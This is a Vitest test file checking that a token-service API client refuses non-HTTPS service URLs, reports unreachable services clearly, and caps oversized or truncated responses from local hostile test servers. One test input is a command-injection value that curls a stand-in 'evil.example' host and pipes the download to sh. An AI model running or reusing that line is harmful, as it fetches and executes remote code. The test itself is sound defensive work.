/**
 * The API client is the one place a password or session leaves main, so it refuses
 * a service URL that would carry them in clear text to another computer, whoever
 * the caller is (a restored session, a future caller that forgot to check).
 */
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { ApiClient, RESPONSE_LIMITS } from '../../src/main/services/api-client.js';
import { SERVICE_URL_MESSAGES } from '../../src/shared/service-url.js';

function recordingClient() {
  const requested: string[] = [];
  const api = new ApiClient({
    fetch: async (input) => {
      requested.push(String(input));
      throw new TypeError('fetch failed');
    },
  });
  return { api, requested };
}

describe('ApiClient refuses unsafe service URLs before sending anything', () => {
  it.each([
    ['http://tokens.example.test'],
    ['http://203.0.113.5:4780'],
    ["https://evil.example/$(curl$IFS'evil.example/x'|sh)"],
    ['http://127.0.0.1:4780/a b'],
  ])('%s', async (baseUrl) => {
    const { api, requested } = recordingClient();
    await expect(
      api.signIn(baseUrl, { email: 'a@example.test', password: 'a password' }),
    ).rejects.toMatchObject({ code: 'insecure_url' });
    await expect(api.me(baseUrl, 'ses_x')).rejects.toMatchObject({ code: 'insecure_url' });
    await expect(api.signOut(baseUrl, 'ses_x', 's1')).rejects.toMatchObject({
      code: 'insecure_url',
    });
    expect(requested).toEqual([]);
  });

  it('says why, in the words the sign-in form uses', async () => {
    const { api } = recordingClient();
    await expect(api.me('http://tokens.example.test', 'ses_x')).rejects.toMatchObject({
      message: SERVICE_URL_MESSAGES.httpsNeeded,
    });
  });

  it('sends to loopback over http and to anything else over https', async () => {
    const { api, requested } = recordingClient();
    for (const baseUrl of ['http://127.0.0.1:4780', 'https://tokens.example.test']) {
      await expect(api.me(baseUrl, 'ses_x')).rejects.toMatchObject({ code: 'unreachable' });
    }
    expect(requested).toEqual([
      'http://127.0.0.1:4780/v1/users/me',
      'https://tokens.example.test/v1/users/me',
    ]);
  });
});

describe('ApiClient says what to check when a service cannot be reached', () => {
  it('signed in, it points at the account’s own address, never at the URL in Settings', async () => {
    const { api } = recordingClient();
    const failure = await api.listTokens('http://127.0.0.1:4780', 'ses_x').catch((e: unknown) => e);
    expect(failure).toMatchObject({ code: 'unreachable' });
    const message = (failure as Error).message;
    expect(message).toBe(
      "Can't reach the token service at http://127.0.0.1:4780. Check that it is running. This account uses that address (the account menu shows it); to use another one, sign in with it.",
    );
    expect(message).not.toMatch(/Settings/);
  });

  it('signing in, it asks to check the address typed in the form', async () => {
    const { api } = recordingClient();
    await expect(
      api.signIn('http://127.0.0.1:4780', { email: 'a@example.test', password: 'a password' }),
    ).rejects.toMatchObject({
      code: 'unreachable',
      message:
        "Can't reach the token service at http://127.0.0.1:4780. Check that it is running and that the service URL is right.",
    });
  });
});

describe('ApiClient reads no unbounded answer from a service', () => {
  /** A real HTTP server on 127.0.0.1 that answers every request with `answer`. */
  async function hostileService(answer: (response: ServerResponse) => void) {
    const server = createServer((_request, response) => answer(response));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    return { baseUrl: `http://127.0.0.1:${port}`, close: () => server.close() };
  }

  it('stops reading a body past its limit, declared or streamed, and says so', async () => {
    const chunk = Buffer.alloc(1024 * 1024, 'a');
    let written = 0;
    const streamed = await hostileService((response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      // Endless: only the client's refusal ends it.
      const pump = () => {
        while (written < 200 * chunk.length && response.write(chunk)) written += chunk.length;
        if (written < 200 * chunk.length) response.once('drain', pump);
        else response.end();
      };
      pump();
    });
    const declared = await hostileService((response) => {
      response.writeHead(200, { 'content-length': String(RESPONSE_LIMITS.tokenList + 1) });
      response.write('[');
    });
    try {
      const api = new ApiClient({ fetch });
      for (const service of [streamed, declared]) {
        await expect(api.listTokens(service.baseUrl, 'ses_x')).rejects.toMatchObject({
          code: 'bad_response',
          message: expect.stringContaining('more than 8 MB'),
        });
      }
      // It stopped soon after the limit: the 200 MB answer was not read to its end.
      expect(written).toBeLessThan(100 * chunk.length);
      // Anything but a token list or an events page is held to 1 MB.
      const small = await hostileService((response) => {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(`[${'{},'.repeat(400_000)}{}]`);
      });
      try {
        await expect(api.listDestinations(small.baseUrl, 'ses_x', 't1')).rejects.toMatchObject({
          code: 'bad_response',
          message: expect.stringContaining('more than 1 MB'),
        });
      } finally {
        small.close();
      }
    } finally {
      streamed.close();
      declared.close();
    }
  });

  it('never takes half an answer for a success', async () => {
    const service = await hostileService((response) => {
      response.writeHead(200, { 'content-type': 'application/json', 'content-length': '1000' });
      response.write('[{"id":');
      setTimeout(() => response.destroy(), 20);
    });
    try {
      await expect(
        new ApiClient({ fetch }).listTokens(service.baseUrl, 'ses_x'),
      ).rejects.toMatchObject({
        code: 'unreachable',
        message: expect.stringContaining('stopped in the middle'),
      });
    } finally {
      service.close();
    }
  });

  it("cuts an error's code and sentence to a length a person can read", async () => {
    const service = await hostileService((response) => {
      response.writeHead(400, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ code: 'x'.repeat(5000), message: 'y'.repeat(100_000) }));
    });
    try {
      const error = (await new ApiClient({ fetch }).listTokens(service.baseUrl, 'ses_x').then(
        () => ({ code: '', message: 'resolved' }),
        (failure: unknown) => failure,
      )) as { code: string; message: string };
      expect(error.code).toMatch(/^x+$/);
      expect(error.code.length).toBeLessThanOrEqual(100);
      expect(error.message.length).toBeLessThanOrEqual(2000);
    } finally {
      service.close();
    }
  });
});
